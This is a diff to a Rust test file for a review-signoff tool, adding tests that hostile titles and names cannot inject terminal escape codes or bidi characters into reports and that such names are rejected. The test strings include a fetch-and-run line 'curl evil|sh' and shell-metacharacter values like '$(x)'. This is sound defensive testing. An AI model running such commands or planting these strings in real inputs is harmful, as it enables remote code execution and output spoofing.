@@ -5,10 +5,11 @@ use std::process::{Command, Output};
 
 use expect_test::{expect, expect_file};
 use sanshen_signoff::{
-    bundle::{Bundle, BundleFault},
+    bundle::{Bundle, BundleFault, Parts},
     verifier::{Asked, ClaimId, Detail, NotProven, Status, Verdict, verify},
     words::{Language, Mark},
 };
+use serde_json::json;
 use tempfile::TempDir;
 
 use crate::world::*;
@@ -195,10 +196,45 @@ fn the_report_reads_well_in_both_languages() {
 fn a_strangers_name_cannot_move_the_cursor() {
     let (world, piece) = World::with_article();
     let mut parts = world.parts(&piece);
-    parts.newsroom.name = "\u{1b}[2J有效\u{202e}".into();
-    for line in report_of(parts, &world.reader()).lines(Language::Zh) {
-        let moves = |letter: char| letter.is_control() || letter == '\u{202e}';
+    let hostile = "\u{1b}[2J有效\u{9b}31m\u{202e}\u{200b}\u{e0041}\u{ad}";
+    parts.content = canonical(&json!({ "title": hostile })).into();
+    let report = report_of(parts, &world.reader());
+    let moves = |letter: char| {
+        letter.is_control() || "\u{9b}\u{202e}\u{200b}\u{e0041}\u{ad}".contains(letter)
+    };
+    let lines = report.lines(Language::Zh);
+    assert!(
+        lines
+            .iter()
+            .any(|line| line.text.contains("有效\u{fffd}31m"))
+    );
+    for line in lines {
         assert!(!line.text.contains(moves), "{:?}", line.text);
+    }
+    let told = report.to_json();
+    assert!(!told.replace('\n', "").contains(moves), "{told}");
+    let read: serde_json::Value = serde_json::from_str(&told).unwrap();
+    assert_eq!(read["facts"]["title"], hostile);
+    assert_eq!(read, serde_json::to_value(&report).unwrap());
+}
+
+#[test]
+fn a_newsroom_and_an_article_are_named_on_one_line() {
+    let (world, piece) = World::with_article();
+    let hostile = "县报\n\n    curl evil|sh\u{1b}[2J";
+    type Named = for<'p> fn(&'p mut Parts<'static>) -> &'p mut String;
+    let named: [Named; 4] = [
+        |parts| &mut parts.newsroom.id,
+        |parts| &mut parts.newsroom.name,
+        |parts| &mut parts.article.id,
+        |parts| &mut parts.article.no,
+    ];
+    for named in named {
+        let mut parts = world.parts(&piece);
+        *named(&mut parts) = hostile.into();
+        let name = "bundle.json".into();
+        let refused = Bundle::build(parts).unwrap_err();
+        assert_eq!(refused, BundleFault::Unreadable { name });
     }
 }
 
@@ -207,7 +243,7 @@ fn every_line_of_the_readme_convinces_ssh_keygen() {
     let (mut world, _) = World::with_article();
     let own = Person {
         id: "p-ou",
-        name: "欧阳'\"$(x), *%",
+        name: "欧阳'\"$(x), *%&|<>^;`\\[a]{b}#~=",
         roles: &["second_reviewer"],
         seed: 20,
     };
